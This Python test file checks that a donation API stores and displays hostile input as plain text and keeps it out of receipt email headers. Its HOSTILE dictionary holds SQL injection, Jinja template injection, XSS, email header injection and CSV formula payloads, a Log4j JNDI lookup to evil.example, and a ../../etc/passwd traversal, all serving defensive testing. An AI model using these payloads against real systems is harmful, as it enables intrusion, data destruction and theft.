"""Text that is meant to do harm is kept as text and shown as text (case 30)."""

import json
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.api.http_messages import Json
from tests.api.outside import Outside, Records, address

HOSTILE = {
    "sql": "Robert'); drop table data.donations; --",
    "sql comment": "*/ select pg_sleep(10) /*",
    "dollar quotes": "$$; delete from data.payments; $$",
    "backslash": "\\'; \\x41 \\",
    "format": "%s %n %(name)s {0} {name} ${HOME} $(id) `id`",
    "jinja": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "entity": "&lt;b&gt; &amp;amp; &#x3c;",
    "header": "Bcc: mallory@evil.example",
    "encoded word": "=?utf-8?q?Bcc=3A_mallory=40evil=2Eexample?=",
    "json": '{"status": "COMPLETED"}',
    "path": "../../etc/passwd",
    "log4j": "${jndi:ldap://evil.example/a}",
    "csv": '=HYPERLINK("http://evil.example")',
    "right to left": "\u202egro.elpmaxe@ecarg\u202c",
    "scripts": "Gr\u0103ce H\u00f6pper 陳大文 Ελένη \u200fغريس\u200e กรุงเทพ",
    "astral": "👩🏽\u200d🚀 \U0001d50a\U0001d52f \U000e0041",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "not normalised": "e\u0301 \u00e9 \ufb01 \u212b",
    "zero width": "a\u200bb\ufeffc\u2060d",
    "line separators": "a\u2028b\u2029c",
    "noncharacters": "\ufdd0\ufffe\uffff\ufffd",
}
# Of a receipt.
TAGS = {"html", "head", "meta", "title", "body", "p", "strong", "table", "tr", "th", "td", "br"}

texts = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())


@texts
def test_a_pledge_keeps_it(care: Outside, campaign: Json, records: Records, text: str) -> None:
    """Case 30: as JSON text in UTF-8 and as escapes, in every field that takes text."""
    extra: dict[str, Any] = {text: text, "list": [text]}
    body = {
        "campaign_id": campaign["id"],
        "donor_email": address(),
        "amount": 5,
        "donor_name": text,
        "message": f"{text}\n{text}",
        "extra_data": extra,
    }
    query = "select donor_name from data.donations where id = %s"
    for typed in (json.dumps(body), json.dumps(body, ensure_ascii=False)):
        made = care.anyone.post("/donations", typed).made()
        seen = care.staff.get(f"/donations/{made['id']}").made(200)
        assert (seen["donor_name"], seen["message"], seen["extra_data"]) == (text, f"{text}\n{text}", extra)
        assert records.execute(query, (made["id"],)).fetchone() == {"donor_name": text}


@texts
def test_a_campaign_and_its_receipts_show_it(care: Outside, text: str) -> None:
    """Case 30: the title is in the subject, the name in the letter; nobody else gets a copy."""
    grace = address("grace")
    campaign = care.campaign(title=text, description=text)
    assert care.anyone.get(f"/campaigns/{campaign['id']}").json["title"] == text

    care.paid(campaign, donor_email=grace, donor_name=text)

    mail = care.mail(grace)
    assert [mail[name] for name in ("To", "Cc", "Bcc", "Reply-To")] == [grace, None, None, None]
    assert care.receipt(grace)["envelope"]["to"][0]["address"] == grace
    plain, page = (mail.get_body((kind,)) for kind in ("plain", "html"))
    assert plain is not None
    assert page is not None
    shown = Shown(page.get_content())
    assert mail["Subject"].startswith("Your receipt for 12.50 USD to ")
    assert visible(text) in visible(mail["Subject"])
    for letter in (plain.get_content(), shown.text):
        assert visible(letter).count(visible(text)) >= 2, "the name and the title"
    assert shown.tags == TAGS


# What tables of mail are laid out with.
LAYOUT = {"role", "width", "cellpadding", "cellspacing", "align"}


class Shown(HTMLParser):
    """What a mail program makes of a page: its tags and the text between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag; none of ours does anything."""
        self.tags.add(tag)
        harmless = {"charset", "name", "content"} if tag == "meta" else {*LAYOUT, "style", "lang", "scope"}
        assert {name for name, _ in attrs} <= harmless

    def handle_data(self, data: str) -> None:
        """Note text, entities resolved."""
        self.text += data


def visible(text: str) -> str:
    """Return a text without what mail programs and templates may set otherwise: blanks and line ends."""
    return "".join(text.split())


@pytest.mark.usefixtures("nothing_stored")
@pytest.mark.parametrize(
    "text",
    [
        "Eve\r\nBcc: mallory@evil.example", "Eve\nBcc: x@evil.example", "Eve\r", "a\tb", "a\x00b",
        "a\x1b[31mb", "a\x7fb", "a\x85b", "a\x0bb",
    ],
    ids=repr,
)  # fmt: skip
def test_control_characters_are_refused_where_one_line_is_meant(
    care: Outside, campaign: Json, text: str
) -> None:
    """Case 30: a name is one line. (A NUL is not even JSON to PostgreSQL.)"""
    word = "invalid_json" if "\x00" in text else "control_character"
    care.donate(campaign, donor_name=text).refuses(
        400, word, names="donor_name" if "\x00" not in text else ""
    )
    care.organizer.post("/campaigns", {"title": text}).refuses(
        400, word, "title" if "\x00" not in text else ""
    )


def test_a_letter_may_have_lines(care: Outside, campaign: Json) -> None:
    letter = "Dear all,\r\n\r\n\tkeep going!\n"

    assert care.donation(campaign, message=letter)["message"] == letter


@pytest.mark.parametrize("reason", [HOSTILE["sql"], HOSTILE["jinja"], HOSTILE["html"], HOSTILE["scripts"]])
def test_a_refund_keeps_its_reason(care: Outside, campaign: Json, reason: str) -> None:
    """Case 30, as staff types it."""
    payment = care.paid(campaign)

    refund = care.staff.post(f"/payments/{payment['id']}/refund", {"amount": "1", "reason": reason})

    assert refund.made(202)["reason"] == reason
    asked = [step for step in care.story(payment["donation_id"]) if step["what"] == "refund_requested"]
    assert [step["reason"] for step in asked] == [reason]
